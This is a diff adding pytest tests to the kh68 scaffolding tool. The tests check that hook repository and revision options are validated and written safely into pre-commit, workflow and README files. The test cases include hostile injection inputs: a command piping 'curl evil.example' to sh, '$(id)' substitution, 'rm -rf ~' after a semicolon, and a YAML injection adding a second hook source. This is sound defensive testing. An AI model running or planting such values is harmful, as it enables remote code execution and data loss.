@@ -6,6 +6,7 @@ import datetime
 import json
 import os
 import re
+import shlex
 import subprocess
 import sys
 from pathlib import Path
@@ -15,6 +16,7 @@ import pytest
 import yaml
 
 from conftest import GIT_ENV, git, invoke, needs_git
+from kh68.core.safetext import excerpt
 from kh68.reading.load import check_plan
 from kh68.reading.schema import kind_of
 from kh68.repo.scaffold import KH68_REPO, KH68_REV, scaffold_files
@@ -190,6 +192,84 @@ def test_hook_source_options(isolated):
     assert f"\n    rev: {KH68_REV}\n" in defaults[".pre-commit-config.yaml"]
     assert f"repo: {KH68_REPO}\n" in defaults[".pre-commit-config.yaml"]
     assert KH68_REV == "main"  # exists whatever is tagged; the file says how to pin a version
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--hook-repo", "https://example.org/kh68\n  - repo: https://evil.example/hooks"),  # a second hook entry
+        ("--hook-repo", 'https://example.org/kh68" && curl evil.example | sh && echo "'),  # out of the pip quotes
+        ("--hook-repo", "https://example.org/$(id)"),
+        ("--hook-repo", "https://example.org/a b"),  # a split pip line
+        ("--hook-repo", "local"),  # pre-commit's own keyword, not a repository
+        ("--hook-repo", "kh68"),  # a relative path: resolved against whatever folder pre-commit runs in
+        ("--hook-repo", "https://example.org/kh68@v1"),  # pip would read "v1" as the revision
+        ("--hook-repo", "https://example.org/kh68#egg=x"),
+        ("--hook-repo", "-c core.sshCommand=x"),
+        ("--hook-rev", "main\n    hooks: []"),
+        ("--hook-rev", "v1; rm -rf ~"),
+        ("--hook-rev", "-x"),
+        ("--hook-rev", "a..b"),
+        ("--hook-rev", "phiên-bản"),
+        ("--hook-rev", ""),
+    ],
+)
+def test_hook_source_that_would_not_read_back_is_refused(isolated: Path, option: str, value: str) -> None:
+    target = isolated / "kehoach"
+    result = invoke(["init", str(target), f"{option}={value}"], 2)
+    shown = excerpt(value)
+    if option == "--hook-repo":
+        reason = (
+            "không phải địa chỉ kho git mà pre-commit và pip dùng được — cần dạng https://…, ssh://…, git://…, "
+            "file://… hoặc đường dẫn tuyệt đối, chỉ gồm chữ, số và . _ ~ - : / % + ('@' chỉ ở tên người dùng "
+            "trước máy chủ, như ssh://git@github.com/…); không tạo gì"
+        )
+    else:
+        reason = (
+            "không phải tên nhánh, tag hay mã commit của git — chỉ gồm chữ cái không dấu, chữ số và . _ - / +, "
+            "bắt đầu bằng chữ hoặc số, ví dụ main hay v1.2.0; không tạo gì"
+        )
+    assert result.output == f"kh68: lỗi: {option} {shown}: {reason}\n"
+    assert not target.exists()
+
+
+@pytest.mark.parametrize(
+    ("repo", "rev"),
+    [
+        ("https://github.com/sgddt-lamdong/kh68", "1.10"),  # a float to YAML
+        ("ssh://git@github.com/sgddt-lamdong/kh68.git", "0123"),  # an octal number to YAML 1.1
+        ("file:///srv/kh68", "true"),  # a boolean to YAML
+        ("/srv/kế-hoạch/kh68", "release/2025+1"),
+        ("C:/kh68", "null"),
+    ],
+)
+def test_hook_source_is_written_by_the_yaml_serializer(repo: str, rev: str) -> None:
+    files = scaffold_files(repo, rev, year=2025)
+    config = yaml.safe_load(files[".pre-commit-config.yaml"])
+    assert config == {"repos": [{"repo": repo, "rev": rev, "hooks": [{"id": "kh68-check"}]}]}
+    steps = yaml.safe_load(files[".github/workflows/plan.yml"])["jobs"]["check"]["steps"]
+    install = next(step["run"] for step in steps if step.get("name") == "Cài kh68")
+    assert shlex.split(install) == ["pip", "install", f"kh68 @ git+{repo}@{rev}"]
+    assert f'`pip install "kh68 @ git+{repo}@{rev}"`' in files["README.md"]
+
+
+def test_init_writes_a_yaml_sensitive_revision_quoted(isolated: Path) -> None:
+    target = isolated / "kehoach"
+    invoke(["init", str(target), "--no-git", "--hook-repo", "ssh://git@example.org/kh68.git", "--hook-rev", "1.10"], 0)
+    config = (target / ".pre-commit-config.yaml").read_text(encoding="utf-8")
+    assert "  - repo: ssh://git@example.org/kh68.git\n" in config
+    assert "    rev: '1.10'\n" in config  # unquoted, YAML would read the float 1.1
+    workflow = (target / ".github" / "workflows" / "plan.yml").read_text(encoding="utf-8")
+    assert '        run: pip install "kh68 @ git+ssh://git@example.org/kh68.git@1.10"\n' in workflow
+
+
+def test_a_hook_source_holding_a_token_is_written_as_given() -> None:
+    files = scaffold_files("/srv/__YEAR__/kh68", "v__END_YEAR__", year=2025)
+    assert yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][0] == {
+        "repo": "/srv/__YEAR__/kh68",
+        "rev": "v__END_YEAR__",
+        "hooks": [{"id": "kh68-check"}],
+    }
 
 
 # ------------------------------------------------------------ the CI workflow
